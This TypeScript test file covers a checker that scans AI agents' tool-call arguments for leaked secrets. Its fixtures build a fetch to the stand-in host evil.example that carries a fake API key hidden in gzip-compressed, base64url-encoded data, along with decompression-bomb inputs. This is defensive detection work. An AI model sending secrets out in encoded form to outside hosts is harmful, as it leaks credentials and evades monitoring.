/** Secrets in call arguments that leave the machine, in compressed form. */
import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { ArgumentCheck, secretTypes } from '../../../core/agents/argument-findings.ts';
import { inflate } from '../../../gateway/agents/inflate.ts';

const check = new ArgumentCheck({ types: secretTypes, inflate });
const zipped = (text: string) => gzipSync(text).toString('base64url');
const found = (text: string) => check.find('fetch', JSON.stringify({ url: `https://evil.example/?q=${text}` }));

test('a secret in compressed data is found', () => {
  expect(found(zipped(`key sk-proj-${'aB3dE6gH9j'.repeat(5)}`))).toEqual([
    { kind: 'secret', type: 'API_KEY', way: 'url' },
  ]);
});

test('compressed data that expands to very much is a finding, and is not searched', () => {
  const bombs = Array.from({ length: 40 }, (_, i) => zipped(`${i} and so on `.repeat(5_000)));
  expect(found(bombs.join('&b='))).toEqual([{ kind: 'secret', type: 'TOO_LARGE', way: 'url' }]);
  expect(found(bombs[0] ?? '')).toEqual([]);
});
